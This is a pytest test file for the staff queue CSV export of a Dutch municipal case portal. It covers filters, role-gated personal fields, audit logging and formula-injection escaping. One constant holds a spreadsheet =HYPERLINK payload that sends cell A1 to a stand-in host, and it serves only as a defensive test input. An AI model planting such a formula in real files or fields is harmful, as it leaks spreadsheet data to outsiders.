"""The queue as a CSV file (portal/staff/queue_views.export_queue, portal/staff/queue_export.py)."""

import csv
import io
from datetime import UTC, datetime

from sqlalchemy import select

from portal.models import AuditEntry
from portal.rules.csv_safety import BYTE_ORDER_MARK
from portal.rules.deadlines import local_date
from portal.services import cases
from portal.staff.queue_export import COLUMNS, PERSONAL_COLUMNS
from tests.conftest import page
from tests.staff_fixtures import log_in

INJECTED_NAME = '=HYPERLINK("https://example.invalid/?"&A1,"Open")'


def _export(client, query: str = "", status: int = 200):
    response = client.get(f"/werkplek/export.csv{query}")
    assert response.status_code == status, response.headers.get("Location")
    return response


def _table(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith(BYTE_ORDER_MARK), "Excel reads UTF-8 only with the byte-order mark"
    return list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)), delimiter=";"))


def _header(response) -> list[str]:
    return next(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix(BYTE_ORDER_MARK)),
                           delimiter=";"))


def _queue_references(client, query: str = "") -> list[str]:
    return [a.get_text(strip=True) for a in page(client.get(f"/werkplek/{query}")).select("tbody td:first-child a")]


def _exports(db_session) -> list[AuditEntry]:
    db_session.expire_all()
    return list(db_session.scalars(select(AuditEntry).where(AuditEntry.action == "export_queue")))


def test_a_file_to_download_with_one_header_row_and_no_personal_fields(client, staff, make_case):
    make_case(call_name="Fatima", phone="+31612345678")
    log_in(client, "regisseur")
    response = _export(client)
    assert response.content_type == "text/csv; charset=utf-8"
    today = local_date(datetime.now(UTC)).isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="wachtrij-{today}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert _header(response) == list(COLUMNS)
    body = response.get_data(as_text=True)
    assert "Fatima" not in body and "612345678" not in body


def test_one_row_per_case_with_labels_and_iso_dates(client, staff, make_case):
    # 23:30 in UTC on 1 June is already 2 June in the municipality: the day a resident would name.
    made = make_case(submitted_at=datetime(2026, 6, 1, 22, 30, tzinfo=UTC), group="youth", children="yes",
                     source="lansingerland-bank", assigned_to_id=staff["regisseur"].id)
    log_in(client, "regisseur")
    [row] = _table(_export(client))
    assert row == {
        "reference": made.reference, "signed_up_on": "2026-06-02", "status": "Nieuw", "group": "Jongere",
        "crisis": "no", "children": "yes", "source": "lansingerland-bank", "filled_in": "online",
        "first_contact_due": made.first_contact_due.isoformat(), "legal_deadline": made.legal_deadline.isoformat(),
        "deadline_state": "Wettelijke termijn voorbij", "assigned": "ketenregisseur", "handed_over_to": "",
    }


def test_the_file_has_the_queues_filter_and_order(client, staff, make_case):
    make_case(submitted_days_ago=2)
    make_case(group="youth", submitted_days_ago=1)
    make_case(group="youth", crisis=True)
    make_case(group="youth", submitted_days_ago=16, children="yes")
    make_case(group="youth", status="closed")
    log_in(client, "regisseur")
    for query in ("", "?group=youth", "?group=youth&status=all", "?crisis=1"):
        exported = [row["reference"] for row in _table(_export(client, query))]
        assert exported == _queue_references(client, query), query
    assert len(_table(_export(client, "?group=youth"))) == 3


def test_every_case_of_the_filter_beyond_the_first_page(client, staff, make_case):
    for _ in range(cases.PAGE_SIZE + 2):
        make_case()
    log_in(client, "regisseur")
    assert len(_table(_export(client))) == cases.PAGE_SIZE + 2


def test_another_municipalitys_cases_are_never_in_it(client, staff, make_case):
    ours = make_case()
    theirs = make_case("groningen", crisis=True, call_name="Groninger")
    log_in(client, "regisseur")
    for query in ("?status=all", f"?reference={theirs.reference}", "?persoonsgegevens=1&status=all"):
        body = _export(client, query).get_data(as_text=True)
        assert theirs.reference not in body and "Groninger" not in body, query
    assert [row["reference"] for row in _table(_export(client, "?status=all"))] == [ours.reference]


def test_names_and_contact_details_only_for_a_coordinator_who_ticks_the_box(client, app, staff, make_case):
    make_case(call_name="Fatima", phone="+31612345678", answers={"contact": {"email": "fatima@example.nl"}})
    log_in(client, "regisseur")
    response = _export(client, "?persoonsgegevens=1")
    assert _header(response) == list(COLUMNS + PERSONAL_COLUMNS)
    [row] = _table(response)
    assert (row["call_name"], row["phone"], row["email"]) == ("Fatima", "'+31612345678", "fatima@example.nl")
    assert _header(_export(client, "?persoonsgegevens=ja")) == list(COLUMNS), "only the box's own value counts"

    administrator = app.test_client()
    log_in(administrator, "beheerder")
    assert _header(_export(administrator)) == list(COLUMNS)
    refused = _export(administrator, "?persoonsgegevens=1", status=403)
    assert "Fatima" not in refused.get_data(as_text=True)


def test_the_box_is_offered_to_a_coordinator_only_and_the_page_says_what_is_in_the_file(client, app, staff,
                                                                                       make_case):
    make_case(group="youth")
    log_in(client, "regisseur")
    form = page(client.get("/werkplek/?group=youth&assigned=none")).select_one("form[action='/werkplek/export.csv']")
    assert {i["name"]: i["value"] for i in form.select("input[type=hidden]")} == {"group": "youth",
                                                                                 "assigned": "none"}
    assert form.select_one("input[type=checkbox][name=persoonsgegevens][value='1']") is not None
    text = form.get_text(" ", strip=True)
    assert "1 zaken van dit filter" in text and "Zonder namen en contactgegevens" in text
    assert "Elke export komt in het logboek" in text

    administrator = app.test_client()
    log_in(administrator, "beheerder")
    form = page(administrator.get("/werkplek/")).select_one("form[action='/werkplek/export.csv']")
    assert form.select_one("input[name=persoonsgegevens]") is None
    assert "alleen een ketenregisseur" in form.get_text()


def test_every_export_is_in_the_audit_log_with_its_filter_rows_and_personal_fields(client, app, staff, make_case,
                                                                                   db_session):
    make_case(group="youth", call_name="Fatima")
    make_case(group="youth")
    make_case()
    log_in(client, "regisseur")
    _export(client, "?group=youth&reference=ABC-DEF")
    _export(client, "?group=youth&persoonsgegevens=1")
    entries = _exports(db_session)
    assert [(e.staff_id, e.municipality_id, e.detail) for e in entries] == [
        (staff["regisseur"].id, staff["regisseur"].municipality_id,
         "filter: status=open group=youth search; personal: no; rows: 0"),
        (staff["regisseur"].id, staff["regisseur"].municipality_id,
         "filter: status=open group=youth; personal: yes; rows: 2"),
    ]
    assert all("ABC" not in entry.detail for entry in entries), "what was searched for stays out of the log"

    administrator = app.test_client()
    log_in(administrator, "beheerder")
    _export(administrator, "?persoonsgegevens=1", status=403)
    assert len(_exports(db_session)) == 2, "a refused export exported nothing"
    audit_page = page(administrator.get("/werkplek/logboek")).get_text()
    assert "export_queue" in audit_page and "personal: yes; rows: 2" in audit_page


def test_a_formula_typed_as_a_name_is_only_text_in_the_file(client, staff, make_case):
    make_case(call_name=INJECTED_NAME, phone="+31612345678")
    log_in(client, "regisseur")
    [row] = _table(_export(client, "?persoonsgegevens=1"))
    assert row["call_name"] == "'" + INJECTED_NAME
    assert row["phone"] == "'+31612345678", "still readable, and no sum for the spreadsheet"
    raw_cells = _export(client, "?persoonsgegevens=1").get_data(as_text=True).splitlines()[1].split('";"')
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in raw_cells)


def test_more_cases_than_one_file_holds_asks_for_a_filter(client, staff, make_case, monkeypatch, db_session):
    monkeypatch.setattr(cases, "EXPORT_LIMIT", 2)
    for group in ("youth", "youth", "none"):
        make_case(group=group)
    log_in(client, "regisseur")
    response = _export(client, "?status=all", status=302)
    assert response.headers["Location"] == "/werkplek/?status=all"
    assert "Meer dan 2 zaken passen niet in één bestand" in page(client.get("/werkplek/")).get_text()
    assert _exports(db_session) == []
    assert len(_table(_export(client, "?group=youth"))) == 2, "exactly the limit still fits"


def test_a_caseworker_gets_no_export(client, staff, make_case):
    make_case(assigned_to_id=staff["partner"].id)
    log_in(client, "partner")
    _export(client, status=403)
    _export(client, "?persoonsgegevens=1", status=403)
